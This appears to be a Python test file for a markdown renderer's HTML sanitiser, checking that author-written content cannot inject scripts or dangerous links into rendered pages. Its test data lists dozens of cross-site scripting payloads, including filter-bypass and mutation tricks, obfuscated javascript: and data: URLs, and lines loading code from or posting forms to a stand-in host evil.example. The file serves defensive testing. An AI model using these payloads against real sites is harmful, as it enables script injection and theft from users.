"""P11: whatever an author types, only what is listed here reaches a reader."""

import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from markup import Quote, Unrenderable, render

TAGS = {
    "a", "abbr", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del",
    "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img",
    "ins", "kbd", "li", "mark", "ol", "p", "picture", "pre", "q", "rp", "rt", "ruby", "s", "samp", "small", "source",
    "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul",
    "var", "wbr",
}  # fmt: skip
EVERYWHERE = {"id", "class", "lang", "dir", "title"}
ATTRIBUTES = {
    "a": {"href", "hreflang"},
    "blockquote": {"cite"},
    "q": {"cite"},
    "del": {"cite", "datetime"},
    "ins": {"cite", "datetime"},
    "img": {"src", "srcset", "sizes", "alt", "width", "height", "loading", "decoding"},
    "source": {"srcset", "sizes", "type"},
    "ol": {"start", "reversed"},
    "li": {"value"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "time": {"datetime"},
    "details": {"open"},
    "div": {"role", "tabindex", "aria-label"},
}
SCHEMES = {"http", "https", "mailto"}
URLS = {"href", "src", "cite"}


def scheme_of(url):
    """Return the scheme as a browser reads it: without the spaces and control characters it overlooks."""
    seen = re.sub(r"[\t\n\r]", "", url.lstrip("".join(map(chr, range(0x21)))))
    found = re.match(r"([a-z][a-z0-9+.-]*):", seen, re.IGNORECASE)
    return found[1].lower() if found else None


def offences_of(element, ids):
    if not isinstance(element.tag, str) or element.tag not in TAGS:
        yield f"<{element.tag}>"
        return
    for name, value in element.attrib.items():
        what = f"<{element.tag} {name}={value!r}>"
        if name not in EVERYWHERE | ATTRIBUTES.get(element.tag, set()):
            yield what
        if name in URLS and scheme_of(value) not in SCHEMES | {None}:
            yield what
        if name == "srcset" and not re.fullmatch(r"/(?!/)[^,]+ \d+w(, /(?!/)[^,]+ \d+w)*", value):
            yield what
        if name == "id" and not value.startswith((ids, "quote-")):
            yield what
        if element.tag == "div" and (name, value) not in {("role", "group"), ("tabindex", "0")} and name in "role":
            yield what


def offences(html, ids="body-"):
    """Return everything in `html` that may not be there, read as a browser reads it, twice over."""
    found = []
    for _ in range(2):  # what a browser writes and reads again must stay harmless
        tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
        found += [offence for element in tree.iter() if element is not tree for offence in offences_of(element, ids)]
        html = html5lib.serialize(tree, omit_optional_tags=False, quote_attr_values="always")
    return found


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    '<img/src="x"/onerror=alert(1)>',
    '<a href="https://a.example/" onmouseover="alert(1)" OnFocus=alert(1) autofocus>x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<div onclick=alert(1) onpointerover=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<style>@import '//evil.example/x.css'; p { background: url(javascript:alert(1)) }</style>",
    "<p style='background: url(//evil.example/)'>x</p>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example/'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<plaintext>x",
    "<textarea><img src=x onerror=alert(1)></textarea><title><script>alert(1)</script></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<picture><source srcset="javascript:alert(1) 1w" onload=alert(1)></picture>',
    '<img srcset="x 1w, javascript:alert(1) 2w" onerror=alert(1)>',
    "<img srcset='//evil.example/x 1w'><source src=javascript:alert(1) type=text/html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<div id=content name=x data-x=1 role=alert tabindex=5>x</div>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "x{onclick=alert(1)}",
]
ATTR_LISTS = [
    "# Heading {onclick=alert(1)}",
    "Words\n{: onmouseover=alert(1) style=color:red #content }",
    "*word*{: onclick=alert(1) }",
    "[link](https://a.example/){: onclick=alert(1) target=_top ping=//evil.example/ }",
    "![x](x.png){: onerror=alert(1) srcset=javascript:alert(1) }",
    "```{.python onclick=alert(1) #content}\nx\n```",
    "| a |{: onclick=alert(1) }\n|---|\n| 1 {: onclick=alert(1) } |",
    '*[CIS]: " onmouseover=alert(1) x="\n\nThe CIS',
    'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: note',
]  # fmt: skip
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
    "java&#x0D;script&Tab;:alert(1)",
    "javascript://a.example/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "blob:https://a.example/1",
    "file:///etc/passwd",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
]
WAYS_TO_LINK = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    "![x][1]\n\n[1]: <{}>",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<img src={}>",
    '[x](https://a.example/){: href="{}" }',
]
PARTS_OF_A_QUOTATION = ["text", "translation", "speaker", "source", "language", "link"]


def quoting(part, value):
    return Quote(**{"key": "a", "text": "Words", "source": "S", "link": "https://s.example/", part: value})


def test_the_checker_sees_what_is_forbidden():
    unseen = [vector for vector in SCRIPTS if not offences(vector)]
    assert unseen == ["<body onload=alert(1)>", "' onmouseover='alert(1)", "x{onclick=alert(1)}"]
    assert offences('<a href=" java\tscript:x">x</a>')
    assert offences('<div role="alert">x</div>')
    assert offences('<p id="x">x</p>')


@pytest.mark.parametrize("vector", SCRIPTS + ATTR_LISTS)
def test_no_script_of_a_body_reaches_the_page(vector):
    """P11"""
    for body in (vector, f"Words {vector} words", f"- {vector}\n\n> {vector}", f"<div>{vector}", f"<p title='{vector}"):
        assert offences(render(body, ids="body-").html) == []


@pytest.mark.parametrize("vector", SCRIPTS + ATTR_LISTS)
def test_no_script_of_a_quotation_reaches_the_page(vector):
    """P11"""
    for part in PARTS_OF_A_QUOTATION:
        rendering = render("[quote: a]", [quoting(part, vector)], ids="body-")
        assert offences(rendering.html) == [], part
        assert offences(rendering.quotes["a"]) == [], part


@pytest.mark.parametrize("url", LINKS)
def test_no_link_of_a_body_runs_anything(url):
    """P11"""
    for way in WAYS_TO_LINK:
        assert offences(render(way.replace("{}", url), ids="body-").html) == [], way


@pytest.mark.parametrize("url", LINKS)
def test_no_link_in_the_words_of_a_quotation_runs_anything(url):
    """P11"""
    for part in ("text", "translation"):
        assert offences(render("", [quoting(part, f"[x]({url}) <{url}>")], ids="body-").html) == [], part


def test_the_link_of_a_quotation_is_a_web_address_or_none():
    """P11"""
    pages = {url: render("", [quoting("link", url)], ids="body-").html for url in LINKS}
    assert {url: offences(page) for url, page in pages.items() if offences(page)} == {}


@pytest.mark.parametrize("tag", ["blockquote", "q", "del", "ins"])
def test_where_words_are_cited_from_is_a_web_address_or_none(tag):
    """P11"""
    pages = {url: render(f'<{tag} cite="{url}">x</{tag}>', ids="body-").html for url in LINKS}
    assert {url: offences(page) for url, page in pages.items() if offences(page)} == {}


@settings(deadline=None, max_examples=150)
@given(st.lists(st.sampled_from([*SCRIPTS, *ATTR_LISTS, *"<>\"'`&{}[]()!:#|\n\t ", "> ", "- ", "```\n"]), max_size=8))
def test_no_mixture_of_vectors_reaches_the_page(pieces):
    """P11"""
    text = "".join(pieces)
    try:
        html = render(text, [quoting("text", text), quoting("speaker", text)], ids="body-").html
    except Unrenderable:
        return
    assert offences(html) == []


@pytest.mark.parametrize("part", ["text", "translation", "speaker", "source"])
def test_inner_signs_of_the_markdown_engine_are_not_taken_from_outside(part):
    """P11"""
    html = render("[quote: a]", [quoting(part, "a\x02wzxhzdk:0\x03b")], ids="body-").html
    assert html.count("<figure") == 1
    assert offences(html) == []


def test_a_text_cannot_look_like_a_part_of_the_site():
    html = render(
        '<p class="banner quotation admin" id="content">x</p><div role="alert" tabindex="3">y</div>', ids="b-"
    )
    assert html.html == '<p class="quotation" id="b-content">x</p>\n<div>y</div>'


def test_harmless_html_stays():
    text = '<details open><summary>More</summary>H<sub>2</sub>O <kbd>x</kbd></details>\n<ol start="3"><li>c</li></ol>'
    assert "".join(render(text, ids="b-").html.split()) == "".join(text.replace(" open", ' open=""').split())


def test_pictures_are_loaded_when_they_come_into_sight():
    html = render("![A map](https://a.example/map.png)", ids="b-").html
    assert 'loading="lazy"' in html
    assert 'src="https://a.example/map.png"' in html
